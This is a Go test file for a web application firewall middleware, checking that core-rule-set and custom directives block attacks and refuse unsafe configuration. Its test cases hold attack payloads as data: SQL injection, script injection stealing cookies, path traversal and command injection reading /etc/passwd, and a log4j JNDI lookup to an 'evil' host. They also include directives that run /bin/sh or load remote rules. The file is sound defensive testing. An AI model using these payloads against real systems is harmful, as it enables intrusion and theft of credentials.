//go:build !nowaf

package waf

import (
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"strconv"
	"strings"
	"testing"

	"sluice/internal/core/diag"
	"sluice/internal/core/dynamic"
	"sluice/internal/core/fault"
	"sluice/internal/testkit"
	"sluice/internal/traffic/middleware"
	"sluice/internal/traffic/middleware/trial"
	"sluice/internal/wire/httpmsg"
)

func TestMain(m *testing.M) {
	httpmsg.SetPoison(true)
	testkit.Main(m)
}

func guarded(t testing.TB, o dynamic.WAF, env middleware.Env, next httpmsg.Handler) httpmsg.Handler {
	t.Helper()
	h, err := Kind().Build(&dynamic.Middleware{WAF: &o}, env, next)
	if err != nil {
		t.Fatal(err)
	}
	return h
}

// echo is a server that answers with what it got, or with what a field asks for.
func echo(t *testing.T) httpmsg.Handler {
	s := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		if leak := r.Header.Get("X-Leak"); leak != "" {
			if r.Header.Get("X-Chunked") != "" {
				http.NewResponseController(w).Flush()
			} else {
				w.Header().Set("Content-Length", strconv.Itoa(len(leak)))
			}
			io.WriteString(w, leak)
			return
		}
		body, _ := io.ReadAll(r.Body)
		fmt.Fprintf(w, "%s %d", r.URL.Path, len(body))
	}))
	t.Cleanup(s.Close)
	return trial.Service(t, s.URL)
}

// TestCoreRuleSet sends the usual attacks, and what is none, over every version of HTTP.
func TestCoreRuleSet(t *testing.T) {
	h := guarded(t, dynamic.WAF{CRSEnabled: true}, middleware.Env{}, echo(t))
	trial.Each(t, h, func(t *testing.T, f *trial.Front) {
		for _, c := range []struct {
			name, method, target, contentType, body string
			header                                  string
			want                                    int
		}{
			{"ordinary", "GET", "/products?page=2&sort=price", "", "", "", 200},
			{"ordinary form", "POST", "/order", "application/x-www-form-urlencoded", "name=Ann&city=Bern", "", 200},
			{"ordinary JSON", "POST", "/order", "application/json", `{"name": "Ann", "items": [1, 2]}`, "", 200},
			{"SQL injection", "GET", "/p?id=1%27%20OR%20%271%27=%271%27%20UNION%20SELECT%20password%20FROM%20users--", "", "", "", 403},
			{"script", "GET", "/p?q=%3Cscript%3Ealert(1)%3C/script%3E", "", "", "", 403},
			{"path traversal", "GET", "/p?file=../../../../etc/passwd", "", "", "", 403},
			{"command", "GET", "/p?host=;cat%20/etc/passwd", "", "", "", 403},
			{"log4j", "GET", "/", "", "", "${jndi:ldap://evil/a}", 403},
			{"in a form", "POST", "/p", "application/x-www-form-urlencoded", "q=<script>alert(document.cookie)</script>", "", 403},
			{"in JSON", "POST", "/p", "application/json", `{"q": "1' OR '1'='1' UNION SELECT password FROM users--"}`, "", 403},
			{"in a form of parts", "POST", "/p", "multipart/form-data; boundary=x", "--x\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n<script>alert(1)</script>\r\n--x--\r\n", "", 403},
			{"broken JSON", "POST", "/p", "application/json", `{"q": `, "", 400},
		} {
			r, _ := http.NewRequest(c.method, f.URL+c.target, strings.NewReader(c.body))
			if c.body == "" {
				r.Body = nil
			}
			r.Host = "shop.test"
			r.Header.Set("User-Agent", "Mozilla/5.0")
			r.Header.Set("Accept", "*/*")
			if c.contentType != "" {
				r.Header.Set("Content-Type", c.contentType)
			}
			if c.header != "" {
				r.Header.Set("X-Api-Version", c.header)
			}
			res, err := f.Client.Do(r)
			if err != nil {
				t.Fatal(c.name, err)
			}
			text, _ := io.ReadAll(res.Body)
			res.Body.Close()
			if res.StatusCode != c.want {
				t.Errorf("%s: got %d %q", c.name, res.StatusCode, text)
			}
			if path, _, _ := strings.Cut(c.target, "?"); c.want == 200 && string(text) != fmt.Sprintf("%s %d", path, len(c.body)) {
				t.Errorf("%s: the server got %q", c.name, text)
			}
			if c.want != 200 && strings.Contains(string(text), "script") {
				t.Errorf("%s: the answer echoes the request", c.name)
			}
		}
	})
}

// own is a set of rules without the core rule set.
func own(directives ...string) dynamic.WAF {
	return dynamic.WAF{Directives: append([]string{"SecRuleEngine On", "SecRequestBodyAccess On", "SecResponseBodyAccess On",
		`SecAction "id:100,phase:1,pass,nolog,ctl:forceRequestBodyVariable=On"`}, directives...)}
}

func TestDirectives(t *testing.T) {
	for _, c := range []struct {
		name     string
		waf      dynamic.WAF
		headers  []string
		body     string
		want     int
		location string
	}{
		{"deny", own(`SecRule REQUEST_URI "@contains /p" "id:1,phase:1,deny,status:406"`), nil, "", 406, ""},
		{"deny, default", own(`SecRule REQUEST_URI "@contains /p" "id:1,phase:1,deny"`), nil, "", 403, ""},
		{"deny, odd status", own(`SecRule REQUEST_URI "@contains /p" "id:1,phase:1,deny,status:200"`), nil, "", 403, ""},
		{"drop", own(`SecRule REQUEST_URI "@contains /p" "id:1,phase:1,drop"`), nil, "", 403, ""},
		{"redirect", own(`SecRule REQUEST_URI "@contains /p" "id:1,phase:1,redirect:https://sorry.test/"`), nil, "", 302, "https://sorry.test/"},
		{"no match", own(`SecRule REQUEST_URI "@contains /other" "id:1,phase:1,deny"`), nil, "", 200, ""},
		{"detection only", dynamic.WAF{Directives: []string{"SecRuleEngine DetectionOnly", `SecRule REQUEST_URI "@contains /p" "id:1,phase:1,deny"`}}, nil, "", 200, ""},
		{"off", dynamic.WAF{Directives: []string{"SecRuleEngine Off", `SecRule REQUEST_URI "@contains /p" "id:1,phase:1,deny"`}}, nil, "", 200, ""},
		{"several lines", own("# a comment\n\nSecRule REQUEST_URI \\\n  \"@contains /p\" \\\n  \"id:1,phase:1,deny\""), nil, "", 403, ""},
		{"host", own(`SecRule SERVER_NAME "@streq a.test" "id:1,phase:1,deny"`), nil, "", 403, ""},
		{"method and protocol", own(`SecRule REQUEST_METHOD "@streq POST" "id:1,phase:1,deny,chain"` + "\n" + `SecRule REQUEST_PROTOCOL "@beginsWith HTTP/" ""`), nil, "x", 403, ""},
		{"client", own(`SecRule REMOTE_ADDR "@ipMatch 127.0.0.0/8" "id:1,phase:1,deny"`), []string{"X-Forwarded-For: 10.0.0.1"}, "", 403, ""},
		{"body", own(`SecRule REQUEST_BODY "@contains evil" "id:1,phase:2,deny"`), nil, "an evil text", 403, ""},
		{"body, without access", dynamic.WAF{Directives: []string{"SecRuleEngine On", `SecRule REQUEST_BODY "@contains evil" "id:1,phase:2,deny"`}}, nil, "an evil text", 200, ""},
		{"body, phase 2 without one", own(`SecRule REQUEST_URI "@contains /p" "id:1,phase:2,deny"`), nil, "", 403, ""},
		{"body too large", own("SecRequestBodyLimit 100"), nil, strings.Repeat("x", 101), 413, ""},
		{"body just not too large", own("SecRequestBodyLimit 100"), nil, strings.Repeat("x", 100), 200, ""},
		{"body partly", own("SecRequestBodyLimit 100", "SecRequestBodyLimitAction ProcessPartial", `SecRule REQUEST_BODY "@contains evil" "id:1,phase:2,deny"`), nil, strings.Repeat("x", 200_000) + "evil", 200, ""},
		{"body partly, found", own("SecRequestBodyLimit 100", "SecRequestBodyLimitAction ProcessPartial", `SecRule REQUEST_BODY "@contains evil" "id:1,phase:2,deny"`), nil, "evil" + strings.Repeat("x", 200_000), 403, ""},
		{"body too large, detection only before", own("SecRequestBodyLimit 100", "SecRuleEngine DetectionOnly", "SecRuleEngine On"), nil, strings.Repeat("x", 101), 413, ""},
		{"body too large, partly before", own("SecRequestBodyLimit 100", "SecRequestBodyLimitAction ProcessPartial", "SecRequestBodyLimitAction Reject"), nil, strings.Repeat("x", 101), 413, ""},
		{"large body, detection only", own("SecRequestBodyLimit 100", "SecRuleEngine DetectionOnly", "SecRequestBodyLimitAction Reject"), nil, strings.Repeat("x", 101), 200, ""},
		{"large body, detection only at last", own("SecRequestBodyLimit 100", "SecRequestBodyLimitAction Reject", `SecRuleEngine "DetectionOnly"`), nil, strings.Repeat("x", 101), 200, ""},
		{"response header", own(`SecRule RESPONSE_HEADERS:Content-Type "@contains html" "id:1,phase:3,deny"`), nil, "", 403, ""},
		{"response body", own("SecResponseBodyMimeType text/html", `SecRule RESPONSE_BODY "@contains stack trace" "id:1,phase:4,deny,status:502"`), []string{"X-Leak: a stack trace of ours"}, "", 502, ""},
		{"response body, harmless", own("SecResponseBodyMimeType text/html", `SecRule RESPONSE_BODY "@contains stack trace" "id:1,phase:4,deny"`), []string{"X-Leak: all is well"}, "", 200, ""},
		{"response body of another type", own("SecResponseBodyMimeTypesClear", "SecResponseBodyMimeType text/plain", `SecRule RESPONSE_BODY "@contains stack trace" "id:1,phase:4,deny"`), []string{"X-Leak: a stack trace of ours"}, "", 200, ""},
		{"large response", own("SecResponseBodyMimeType text/html", "SecResponseBodyLimit 1000", `SecRule RESPONSE_BODY "@contains end" "id:1,phase:4,deny"`), []string{"X-Leak: " + strings.Repeat("x", 20_000) + "end"}, "", 200, ""},
		{"large response, rejected", own("SecResponseBodyMimeType text/html", "SecResponseBodyLimit 1000", "SecResponseBodyLimitAction Reject"), []string{"X-Leak: " + strings.Repeat("x", 20_000)}, "", 500, ""},
		{"large response of unknown length, rejected", own("SecResponseBodyMimeType text/html", "SecResponseBodyLimit 1000", "SecResponseBodyLimitAction Reject"), []string{"X-Leak: " + strings.Repeat("x", 20_000), "X-Chunked: yes"}, "", 500, ""},
		{"response just not too large", own("SecResponseBodyMimeType text/html", "SecResponseBodyLimit 1000", "SecResponseBodyLimitAction Reject"), []string{"X-Leak: " + strings.Repeat("x", 1000)}, "", 200, ""},
		{"large response, detection only", own("SecResponseBodyMimeType text/html", "SecResponseBodyLimit 1000", "SecRuleEngine DetectionOnly", "SecResponseBodyLimitAction Reject"), []string{"X-Leak: " + strings.Repeat("x", 20_000)}, "", 200, ""},
		{"core rules, some removed", dynamic.WAF{CRSEnabled: true, Directives: []string{`SecRuleRemoveById 930100-941999`, `SecRuleEngine On`}}, []string{"User-Agent: Mozilla/5.0", "Accept: */*", "Referer: <script>alert(1)</script>"}, "", 200, ""},
		{"core rules, none removed", dynamic.WAF{CRSEnabled: true}, []string{"User-Agent: Mozilla/5.0", "Accept: */*", "Referer: <script>alert(1)</script>"}, "", 403, ""},
		{"core rules, detection only", dynamic.WAF{CRSEnabled: true, Directives: []string{`SecRuleEngine DetectionOnly`}}, []string{"Referer: <script>alert(1)</script>"}, "", 200, ""},
		{"core rules, chosen", dynamic.WAF{CRSEnabled: true, Directives: []string{"SecRuleEngine On", "Include @crs-setup.conf.example", "Include @owasp_crs/REQUEST-901-INITIALIZATION.conf",
			"Include @owasp_crs/REQUEST-941-APPLICATION-ATTACK-XSS.conf", "Include @owasp_crs/REQUEST-949-BLOCKING-EVALUATION.conf"}}, []string{"Referer: <script>alert(1)</script>"}, "", 403, ""},
		{"core rules, higher threshold", dynamic.WAF{CRSEnabled: true, Directives: []string{`SecAction "id:900110,phase:1,pass,t:none,nolog,setvar:tx.inbound_anomaly_score_threshold=1000"`}}, []string{"User-Agent: Mozilla/5.0", "Referer: <script>alert(1)</script>"}, "", 200, ""},
	} {
		t.Run(c.name, func(t *testing.T) {
			f := trial.HTTP1(t, guarded(t, c.waf, middleware.Env{}, echo(t)))
			r, _ := http.NewRequest("GET", f.URL+"/p", nil)
			if c.body != "" {
				r, _ = http.NewRequest("POST", f.URL+"/p", io.MultiReader(strings.NewReader(c.body))) // of unknown length
				r.Header.Set("Content-Type", "text/plain")
			}
			r.Host = "a.test"
			for _, h := range c.headers {
				name, value, _ := strings.Cut(h, ": ")
				r.Header.Set(name, value)
			}
			res, err := f.Client.Do(r)
			if err != nil {
				t.Fatal(err)
			}
			text, err := io.ReadAll(res.Body)
			res.Body.Close()
			if res.StatusCode != c.want || res.Header.Get("Location") != c.location {
				t.Errorf("got %d %v %q %v", res.StatusCode, res.Header, text, err)
			}
			want := fmt.Sprintf("/p %d", len(c.body))
			if leak := r.Header.Get("X-Leak"); leak != "" {
				want = leak
			}
			if c.want == 200 && string(text) != want {
				t.Errorf("got %d bytes, want %d", len(text), len(want))
			}
		})
	}
}

// TestTypeIsNoWayAround holds that a client cannot keep a body from the rules by saying that it is gRPC.
func TestTypeIsNoWayAround(t *testing.T) {
	const rule = `SecRule REQUEST_BODY "@contains evil" "id:1,phase:2,deny"`
	for _, c := range []struct {
		name    string
		waf     dynamic.WAF
		body    string
		chunked bool
		want    int
	}{
		{"with a length", own(rule), "an evil text", false, 403},
		{"with a length, harmless", own(rule), "a good text", false, 200},
		{"a stream", own(rule), "a good text", true, 403},
		{"a stream, where longer bodies pass", own(rule, "SecRequestBodyLimitAction ProcessPartial"), "an evil text", true, 200},
		{"a stream, detection only", own(rule, "SecRuleEngine DetectionOnly"), "an evil text", true, 200},
		{"a stream, of which the rules want no body", own(rule, "SecRequestBodyAccess Off"), "an evil text", true, 200},
		{"a stream that a rule lets pass", own(rule, `SecRule REQUEST_URI "@beginsWith /p" "id:2,phase:1,pass,nolog,ctl:requestBodyAccess=Off"`), "an evil text", true, 200},
	} {
		t.Run(c.name, func(t *testing.T) {
			h := guarded(t, c.waf, middleware.Env{}, echo(t))
			trial.Each(t, h, func(t *testing.T, f *trial.Front) {
				var body io.Reader = strings.NewReader(c.body)
				if c.chunked {
					body = io.MultiReader(body)
				}
				r, _ := http.NewRequest("POST", f.URL+"/p", body)
				r.Header.Set("Content-Type", "application/grpc+proto")
				res, err := f.Client.Do(r)
				if err != nil {
					t.Fatal(err)
				}
				text, _ := io.ReadAll(res.Body)
				res.Body.Close()
				if res.StatusCode != c.want || c.want == 200 && string(text) != fmt.Sprintf("/p %d", len(c.body)) {
					t.Errorf("got %d %q", res.StatusCode, text)
				}
			})
		})
	}
}

func TestUnbuildable(t *testing.T) {
	for name, o := range map[string]dynamic.WAF{
		"waf.directives: there are no rules":               {},
		"waf.directives: ":                                 {Directives: []string{"SecNonsense On"}},
		"waf.directives[0]: SecAuditLog":                   {Directives: []string{"SecAuditLog /var/log/audit.log"}},
		"waf.directives[0]: secdebuglog":                   {Directives: []string{"secdebuglog /tmp/x"}},
		"waf.directives[0]: SecRemoteRules":                {Directives: []string{"SecRemoteRules key https://evil.test/"}},
		"waf.directives[1]: rules cannot run":              {Directives: []string{"SecRuleEngine On", `SecRule FILES_TMPNAMES "@inspectFile /bin/sh" "id:1"`}},
		"waf.directives[0]: rules cannot run ":             {Directives: []string{`SecAction "id:1,phase:1,exec:/bin/sh"`}},
		"waf.directives[0]: rules cannot read":             {Directives: []string{`SecRule ARGS "@pmFromFile /etc/passwd" "id:1"`}},
		"waf.directives[0]: only files":                    {CRSEnabled: true, Directives: []string{"Include /etc/passwd"}},
		"waf.directives[0]: the core rule set is not enab": {Directives: []string{"Include @owasp_crs/*.conf"}},
		"waf.directives[0]: the limit":                     {Directives: []string{"SecRequestBodyLimit -1"}},
		"waf.directives: \x00":                             {Directives: []string{`SecRule ARGS "@rx (" "id:1"`}},
	} {
		m := &dynamic.Middleware{WAF: &o}
		err := middleware.Refusal(Kind().Check(m))
		if err == nil || !strings.HasPrefix(err.Error(), strings.TrimRight(name, " \x00")) {
			t.Errorf("%q: got %v", name, err)
		}
		if h, err := Kind().Build(m, middleware.Env{}, nil); err == nil || h != nil {
			t.Errorf("%q was built", name)
		}
	}
}

// TestEnginesAreShared holds that one set of rules is compiled once.
func TestEnginesAreShared(t *testing.T) {
	a := guarded(t, dynamic.WAF{CRSEnabled: true}, middleware.Env{Name: "a@file"}, nil).(*firewall)
	b := guarded(t, dynamic.WAF{CRSEnabled: true}, middleware.Env{Name: "b@file"}, nil).(*firewall)
	if a.engine != b.engine {
		t.Error("the core rule set was compiled twice")
	}
	if l := Kind().Check(&dynamic.Middleware{WAF: &dynamic.WAF{CRSEnabled: true}}); l.Has(diag.Error) {
		t.Error(l)
	}
}

// TestFailsClosed holds that a request which cannot be inspected does not pass.
func TestFailsClosed(t *testing.T) {
	f := guarded(t, own(`SecRule REQUEST_BODY "@contains evil" "id:1,phase:2,deny"`), middleware.Env{}, httpmsg.HandlerFunc(func(*httpmsg.Exchange) error {
		t.Error("it passed")
		return nil
	}))
	x := &httpmsg.Exchange{}
	x.Req.Method, x.Req.Host, x.Req.Path = httpmsg.Text("POST"), httpmsg.Text("a.test"), httpmsg.Text("/")
	x.Req.Body, x.Req.ContentLength = &broken{}, -1
	if err := f.Serve(x); fault.Of(err).Kind != fault.BodyCut {
		t.Errorf("a broken body: %v", err)
	}
	x.Finish()
}

type broken struct{}

func (*broken) Next() ([]byte, error)    { return nil, fault.New(fault.BodyCut, "test", nil) }
func (*broken) Ready() bool              { return false }
func (*broken) Trailer() *httpmsg.Header { return nil }
func (*broken) Close()                   {}

// BenchmarkMiddlewaresRequest is the cost of a harmless request.
func BenchmarkMiddlewaresRequest(b *testing.B) {
	h := guarded(b, dynamic.WAF{CRSEnabled: true}, middleware.Env{}, httpmsg.HandlerFunc(func(x *httpmsg.Exchange) error { x.Respond(200, "", "ok"); return nil }))
	for _, body := range []string{"", `{"name": "Ann", "items": [1, 2], "text": "` + strings.Repeat("lorem ipsum ", 800) + `"}`} {
		b.Run(fmt.Sprintf("%d bytes", len(body)), func(b *testing.B) {
			for b.Loop() {
				x := &httpmsg.Exchange{}
				x.Req.Method, x.Req.Host, x.Req.Path, x.Req.Proto = httpmsg.Text("GET"), httpmsg.Text("a.test"), httpmsg.Text("/"), httpmsg.HTTP11
				for _, f := range []string{"User-Agent: Mozilla/5.0", "Accept: */*", "Content-Type: application/json"} {
					name, value, _ := strings.Cut(f, ": ")
					x.Req.Header.Add(name, value)
				}
				if body != "" {
					x.Req.Method = httpmsg.Text("POST")
					x.Req.Body, x.Req.ContentLength = &httpmsg.Bytes{Data: []byte(body)}, int64(len(body))
					x.Req.Header.Add("Content-Length", fmt.Sprint(len(body)))
				}
				if err := h.Serve(x); err != nil || x.Res.Status != 200 {
					b.Fatal(err, x.Res.Status)
				}
				x.Finish()
			}
		})
	}
}
